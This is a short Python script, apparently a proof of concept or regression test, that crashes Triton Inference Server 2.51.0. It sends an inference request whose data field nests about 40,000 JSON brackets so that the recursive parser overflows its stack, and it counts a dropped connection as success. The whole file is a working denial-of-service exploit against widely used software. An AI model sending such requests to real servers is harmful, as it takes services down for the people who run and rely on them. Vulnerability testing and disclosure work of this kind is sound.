"""Requests that end tritonserver 2.51.0."""

from __future__ import annotations

import http.client
import urllib.error
import urllib.request


def send(base: str, brackets: int) -> None:
    """A number behind so many brackets; the function that reads it calls itself for each of them.

    At a stack of 8 MB 40,000 are enough: a body of 80 kB.
    """
    data = b"[" * brackets + b"1, 2" + b"]" * brackets
    body = b'{"inputs": [{"name": "X", "datatype": "FP32", "shape": [1, 2], "data": %s}]}' % data
    try:
        urllib.request.urlopen(f"{base}/v2/models/step/infer", body, timeout=60)
    except urllib.error.HTTPError as error:
        raise AssertionError(f"it answered: {error} {error.read()!r}") from None
    except (OSError, http.client.HTTPException):
        return
    raise AssertionError("it answered")
